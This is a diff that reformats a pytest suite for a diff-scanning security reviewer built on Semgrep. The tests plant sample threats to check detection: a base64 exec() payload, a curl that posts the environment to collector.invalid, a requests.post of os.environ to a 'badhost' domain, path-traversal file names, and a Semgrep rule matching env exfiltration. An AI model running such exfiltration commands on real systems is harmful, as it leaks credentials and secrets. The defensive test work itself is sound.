@@ -24,8 +24,10 @@ def semgrep() -> SemgrepAnalyzer:
 def new_file(path: str, body: str) -> bytes:
     lines = body.split("\n")[:-1] if body.endswith("\n") else body.split("\n")
     hunk = "".join(f"+{ln}\n" for ln in lines)
-    return (f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
-            f"@@ -0,0 +1,{len(lines)} @@\n{hunk}").encode()
+    return (
+        f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
+        f"@@ -0,0 +1,{len(lines)} @@\n{hunk}"
+    ).encode()
 
 
 PAYLOAD = "import base64\n\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
@@ -41,7 +43,9 @@ def test_finding_on_added_line_with_reviewer_message_and_fingerprint():
 
 
 def test_semgrep_runs_once_for_many_files_and_tests_folders_are_scanned():
-    diff = b"".join(new_file(p, PAYLOAD) for p in ("a.py", "tests/test_x.py", "node_modules/x.py", "d/e.py"))
+    diff = b"".join(
+        new_file(p, PAYLOAD) for p in ("a.py", "tests/test_x.py", "node_modules/x.py", "d/e.py")
+    )
     analyzer = semgrep()
     calls = []
     original = analyzer.command
@@ -53,7 +57,12 @@ def test_semgrep_runs_once_for_many_files_and_tests_folders_are_scanned():
     analyzer.command = counting  # type: ignore[method-assign]
     result = scan(parse_diff(diff), analyzers=[analyzer])
     assert len(calls) == 1
-    assert {f.path for f in result.findings} == {"a.py", "tests/test_x.py", "node_modules/x.py", "d/e.py"}
+    assert {f.path for f in result.findings} == {
+        "a.py",
+        "tests/test_x.py",
+        "node_modules/x.py",
+        "d/e.py",
+    }
 
 
 def test_only_added_lines_count():
@@ -78,7 +87,9 @@ def test_finding_that_existed_at_base_is_not_new_even_when_it_moved():
     change = dataclasses.replace(change, added={n: ln for n, ln in enumerate(head.splitlines(), 1)})
     cs = ChangeSet(files=(change,), has_base=True)
     assert scan(cs, analyzers=[semgrep()]).findings == []
-    cs_without_base = ChangeSet(files=(dataclasses.replace(change, base_text=None),), has_base=False)
+    cs_without_base = ChangeSet(
+        files=(dataclasses.replace(change, base_text=None),), has_base=False
+    )
     assert len(scan(cs_without_base, analyzers=[semgrep()]).findings) == 1
 
 
@@ -86,8 +97,11 @@ def test_binary_and_too_large_files_are_reported_not_silently_skipped():
     big = "x = 1\n" * 50_000
     diff = new_file("huge.py", big) + (
         b"diff --git a/lib.so b/lib.so\nnew file mode 100644\nindex 0000000..1111111\n"
-        b"Binary files /dev/null and b/lib.so differ\n")
-    result = scan(parse_diff(diff), options=ScanOptions(max_file_bytes=100_000), analyzers=[semgrep()])
+        b"Binary files /dev/null and b/lib.so differ\n"
+    )
+    result = scan(
+        parse_diff(diff), options=ScanOptions(max_file_bytes=100_000), analyzers=[semgrep()]
+    )
     reasons = {s.path: s.reason for s in result.skipped}
     assert reasons == {"huge.py": SkipReason.TOO_LARGE, "lib.so": SkipReason.BINARY}
 
@@ -121,7 +135,9 @@ def test_disabled_rules_and_ignored_paths():
     assert scan(cs, options=opts, analyzers=[semgrep()]).findings == []
 
 
-@pytest.mark.parametrize("path", ["../../etc/passwd.py", "/abs/x.py", "a\\..\\..\\b.py", "we\x01ird/../x.py"])
+@pytest.mark.parametrize(
+    "path", ["../../etc/passwd.py", "/abs/x.py", "a\\..\\..\\b.py", "we\x01ird/../x.py"]
+)
 def test_hostile_paths_stay_data(path, tmp_path):
     result = scan(parse_diff(new_file("ok.py", "x = 1\n")), analyzers=[semgrep()])
     assert not result.degraded
@@ -139,12 +155,18 @@ def test_a_batch_gives_each_change_what_a_scan_of_it_alone_gives():
     changes = [
         parse_diff(new_file("a.py", PAYLOAD)),
         parse_diff(new_file("a.py", "x = 1\n")),  # same path in another change: no collision
-        parse_diff(new_file("tests/b.py", "import os\nfor k, v in os.environ.items():\n    pass\n" + PAYLOAD)),
+        parse_diff(
+            new_file(
+                "tests/b.py", "import os\nfor k, v in os.environ.items():\n    pass\n" + PAYLOAD
+            )
+        ),
         parse_diff(b""),
     ]
     batch = scan_many(changes, analyzers=[semgrep()])
     alone = [scan(c, analyzers=[semgrep()]) for c in changes]
-    assert [[f.to_dict() for f in r.findings] for r in batch] == [[f.to_dict() for f in r.findings] for r in alone]
+    assert [[f.to_dict() for f in r.findings] for r in batch] == [
+        [f.to_dict() for f in r.findings] for r in alone
+    ]
     assert [len(r.findings) for r in batch] == [1, 0, 2, 0]
 
 
@@ -158,19 +180,24 @@ def test_minified_and_extensionless_files_reach_semgrep(tmp_path):
         "    severity: ERROR\n"
         "    message: Sends the environment.\n"
         "    metadata: {category: exfiltration, severity: high, confidence: high}\n"
-        "    pattern: curl -d \"$(env)\"\n"
+        '    pattern: curl -d "$(env)"\n'
         "  - id: test-js-eval\n"
         "    languages: [javascript]\n"
         "    severity: ERROR\n"
         "    message: Evaluates a string.\n"
         "    metadata: {category: obfuscated-exec, severity: high, confidence: high}\n"
-        "    pattern: eval(...)\n")
-    diff = (new_file("dist/bundle.min.js", "var a=1;eval(atob('eA=='));\n")
-            + new_file("scripts/uploader", "echo start\ncurl -d \"$(env)\" https://collector.invalid/u\n")
-            + new_file("README", "curl -d \"$(env)\" is what an attacker would write\n"))
+        "    pattern: eval(...)\n"
+    )
+    diff = (
+        new_file("dist/bundle.min.js", "var a=1;eval(atob('eA=='));\n")
+        + new_file("scripts/uploader", 'echo start\ncurl -d "$(env)" https://collector.invalid/u\n')
+        + new_file("README", 'curl -d "$(env)" is what an attacker would write\n')
+    )
     result = scan(parse_diff(diff), analyzers=[SemgrepAnalyzer(rules_dir=rules)])
     assert {(f.rule_id, f.path) for f in result.findings} == {
-        ("test-js-eval", "dist/bundle.min.js"), ("test-generic-env-post", "scripts/uploader")}
+        ("test-js-eval", "dist/bundle.min.js"),
+        ("test-generic-env-post", "scripts/uploader"),
+    }
 
 
 def test_line_numbers_hold_after_unicode_line_separators():
@@ -181,10 +208,24 @@ def test_line_numbers_hold_after_unicode_line_separators():
         name = "exec-lines"
 
         def analyze(self, files, ctx) -> AnalyzerOutput:
-            return AnalyzerOutput(findings=[
-                Finding("t-exec", "remote-code-exec", Severity.HIGH, Confidence.HIGH, f.path, n, n, "m",
-                        evidence=line)
-                for f in files for n, line in enumerate(f.lines(), 1) if "exec(" in line])
+            return AnalyzerOutput(
+                findings=[
+                    Finding(
+                        "t-exec",
+                        "remote-code-exec",
+                        Severity.HIGH,
+                        Confidence.HIGH,
+                        f.path,
+                        n,
+                        n,
+                        "m",
+                        evidence=line,
+                    )
+                    for f in files
+                    for n, line in enumerate(f.lines(), 1)
+                    if "exec(" in line
+                ]
+            )
 
     body = "import base64\nnote = 'a\u2028b\u0085c\x0cd'\nexec(base64.b64decode('eA=='))\n"
     (f,) = scan(parse_diff(new_file("sep.py", body)), analyzers=[ExecLines()]).findings
@@ -194,8 +235,10 @@ def test_line_numbers_hold_after_unicode_line_separators():
 def _modified(path: str, start: int, added: list[str]) -> bytes:
     """A diff that adds lines in the middle of an existing file (only the hunk is known)."""
     body = "".join(f"+{ln}\n" for ln in added)
-    return (f"diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n"
-            f"@@ -{start},0 +{start},{len(added)} @@\n{body}").encode()
+    return (
+        f"diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n"
+        f"@@ -{start},0 +{start},{len(added)} @@\n{body}"
+    ).encode()
 
 
 def test_a_fragment_rebuilt_from_hunks_that_does_not_parse_is_listed_not_degraded():
@@ -210,16 +253,19 @@ def test_a_fragment_rebuilt_from_hunks_that_does_not_parse_is_listed_not_degrade
 
 def test_a_whole_file_that_does_not_parse_still_degrades_the_scan():
     broken = "def f(:\n  exec(base64.b64decode('eA=='))\n}}}}((((\n"
-    change = parse_file_patch("svc/run.py", "@@ -1,0 +1,1 @@\n+}}}}((((\n", status="modified",
-                              head_text=broken)
+    change = parse_file_patch(
+        "svc/run.py", "@@ -1,0 +1,1 @@\n+}}}}((((\n", status="modified", head_text=broken
+    )
     result = scan(ChangeSet(files=(change,), has_head=True), analyzers=[semgrep()])
     assert result.degraded and any("svc/run.py" in e for e in result.errors)
 
 
 def _exfil_line(host: str) -> str:
     # The destination is named only after the 160th character, where evidence is clipped.
-    return ("    requests.post(os.environ.get('METRICS_URL_" + "X" * 120 + f"', 'https://{host}/v1'), "
-            "json=dict(os.environ))")
+    return (
+        "    requests.post(os.environ.get('METRICS_URL_" + "X" * 120 + f"', 'https://{host}/v1'), "
+        "json=dict(os.environ))"
+    )
 
 
 def _base_and_head(base: str, head: str, path: str = "app/sync.py") -> ChangeSet:
@@ -233,13 +279,23 @@ def test_a_flagged_line_changed_after_its_160th_character_is_a_new_finding():
     top = "import os\nimport requests\n\n\ndef push():\n"
     base = top + _exfil_line("metrics.acmecorp.io") + "\n"
     assert _exfil_line("metrics.acmecorp.io").index("https://") > 160
-    moved = scan(_base_and_head(base, "# a comment\n" + top + "    " + _exfil_line("metrics.acmecorp.io") + "\n"),
-                 analyzers=[EndpointAnalyzer()])
-    assert [f.rule_id for f in moved.findings if f.rule_id == "endpoint-exfiltration"] == []  # same code
-    changed = scan(_base_and_head(base, top + _exfil_line("collect.badhost.net") + "\n"),
-                   analyzers=[EndpointAnalyzer()])
+    moved = scan(
+        _base_and_head(
+            base, "# a comment\n" + top + "    " + _exfil_line("metrics.acmecorp.io") + "\n"
+        ),
+        analyzers=[EndpointAnalyzer()],
+    )
+    assert [
+        f.rule_id for f in moved.findings if f.rule_id == "endpoint-exfiltration"
+    ] == []  # same code
+    changed = scan(
+        _base_and_head(base, top + _exfil_line("collect.badhost.net") + "\n"),
+        analyzers=[EndpointAnalyzer()],
+    )
     (f,) = [f for f in changed.findings if f.rule_id == "endpoint-exfiltration"]
-    assert f.start_line == 6 and "badhost" not in f.evidence  # the clip hides it; the fingerprint does not
+    assert (
+        f.start_line == 6 and "badhost" not in f.evidence
+    )  # the clip hides it; the fingerprint does not
 
 
 def test_fingerprints_hash_the_whole_code_and_unicode_spaces_count():
@@ -256,8 +312,13 @@ def test_a_binary_file_is_fingerprinted_by_its_bytes():
     from reviewer.core.changeset import FileChange, FileStatus
 
     def tool(digest: str) -> ChangeSet:
-        return ChangeSet(files=(FileChange(path="bin/tool", status=FileStatus.ADDED, binary=True,
-                                           content_sha256=digest),))
+        return ChangeSet(
+            files=(
+                FileChange(
+                    path="bin/tool", status=FileStatus.ADDED, binary=True, content_sha256=digest
+                ),
+            )
+        )
 
     (one,) = scan(tool("1" * 64), analyzers=[BlobAnalyzer()]).findings
     (same,) = scan(tool("1" * 64), analyzers=[BlobAnalyzer()]).findings
